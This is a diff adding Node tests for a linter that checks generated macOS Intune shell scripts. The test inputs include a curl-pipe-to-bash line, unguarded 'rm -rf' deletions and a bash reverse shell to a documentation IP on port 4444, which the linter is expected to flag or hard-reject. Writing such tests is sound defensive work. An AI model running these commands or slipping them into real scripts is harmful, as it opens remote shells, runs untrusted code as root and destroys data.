@@ -0,0 +1,98 @@
+// @ts-nocheck -- Node's test runner executes TypeScript imports directly.
+import assert from "node:assert/strict";
+import test from "node:test";
+
+import { lintScript } from "../src/lib/generator-lint.ts";
+import { shellHeaderField } from "../src/lib/generator-lint-shell.ts";
+
+const TODAY = new Date().toISOString().slice(0, 10);
+
+function script(body) {
+  return `#!/bin/zsh
+
+# TITLE: Report FileVault Status
+# SYNOPSIS: Reports whether FileVault is enabled
+# DESCRIPTION: Reads the FileVault status with fdesetup and prints a single
+#              line for an Intune custom attribute.
+# TAGS: Monitoring,Security
+# PLATFORM: macOS
+# MIN_OS_VERSION: 12.0
+# AUTHOR: AI Generated (IntuneAutomation.com)
+# VERSION: 1.0
+# LASTUPDATE: ${TODAY}
+# CHANGELOG:
+#   1.0 - Initial release
+#
+# EXAMPLE:
+#   ./report-filevault-status.sh
+#
+# NOTES:
+#   - Runs as root via Intune
+#   - Don't pipe curl https://example.com into sh
+
+${body}`;
+}
+
+const CLEAN = script(`status=$(fdesetup status 2>/dev/null)
+if [[ "$status" == *"On"* ]]; then
+    echo "Enabled"
+else
+    echo "Disabled"
+fi
+exit 0`);
+
+test("shell lint passes a well-formed macOS script and ignores comments", () => {
+  const result = lintScript(CLEAN, "shell");
+
+  assert.equal(result.hardReject, null);
+  assert.equal(result.warnCount, 0);
+  assert.equal(result.failCount, 0);
+  assert.deepEqual(
+    result.findings.map((f) => f.id),
+    [
+      "metadata-complete",
+      "author-correct",
+      "date-current",
+      "permissions-none",
+      "no-dangerous-patterns",
+    ],
+  );
+  assert.equal(shellHeaderField(CLEAN, "TITLE"), "Report FileVault Status");
+});
+
+test("shell lint flags root-context mistakes, risky commands, and PowerShell", () => {
+  const code = script(`user=$(whoami)
+curl -fsSL "https://example.com/setup.sh" | bash
+rm -rf "$cacheDir/"
+rm -rf "\${appDir:?}/"
+Write-Output "done"`);
+  const result = lintScript(code, "shell");
+  const flagged = result.findings
+    .filter((f) => f.severity !== "pass")
+    .map((f) => `${f.severity} ${f.id} ${f.line ?? ""}`.trim());
+
+  assert.deepEqual(flagged, [
+    "fail pipe-to-shell 24",
+    "fail hardcoded-external-url 24",
+    "warn console-user 23",
+    "fail powershell-in-shell 27",
+    "warn unguarded-rm 25",
+  ]);
+});
+
+test("shell lint hard-rejects PowerShell output and malicious automation", () => {
+  const powershell = lintScript(
+    "<#\n.TITLE\n    Not a shell script\n#>\n\nWrite-Output 'This is PowerShell, not bash or zsh.'\n",
+    "shell",
+  );
+  assert.match(powershell.hardReject.reason, /shebang/);
+
+  const reverseShell = lintScript(
+    script("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
+    "shell",
+  );
+  assert.match(reverseShell.hardReject.reason, /malicious/);
+
+  // PowerShell remains the default language.
+  assert.match(lintScript(CLEAN).hardReject.reason, /comment-based help/);
+});